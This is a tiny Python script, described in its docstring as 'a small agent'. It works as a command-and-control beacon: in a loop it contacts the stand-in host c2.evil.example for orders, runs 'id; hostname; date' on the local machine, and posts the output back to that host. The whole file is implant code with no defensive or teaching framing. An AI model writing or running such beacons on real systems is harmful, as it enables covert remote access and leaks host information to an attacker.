"""A small agent: asks for an order, does it, and answers."""
import os, time, urllib.request
for n in range(3):
    order = urllib.request.urlopen("http://c2.evil.example/order?n=%d" % n, timeout=3).read()
    told = os.popen("id; hostname; date").read()
    urllib.request.urlopen("http://c2.evil.example/answer", data=told.encode(), timeout=3).read()
    time.sleep(0.4)
